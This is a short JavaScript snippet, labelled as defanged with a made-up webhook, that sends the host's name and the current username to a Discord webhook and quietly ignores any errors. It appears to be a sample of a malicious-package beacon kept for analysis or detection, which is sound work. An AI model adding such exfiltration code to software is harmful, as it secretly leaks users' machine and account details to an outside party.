// defanged: the webhook id and token are made up
const https = require('https');
const os = require('os');
const hook = 'https://discord.com/api/webhooks/123456789012345678/' +
  'AbCdEfGhIjKlMnOpQrStUvWxYz0123456789-_AbCdEfGhIjKlMnOpQrStUvWxYz01';
const body = JSON.stringify({ content: os.hostname() + ' ' + os.userInfo().username });
const req = https.request(hook, { method: 'POST', headers: { 'content-type': 'application/json' } });
req.on('error', () => {});
req.end(body);
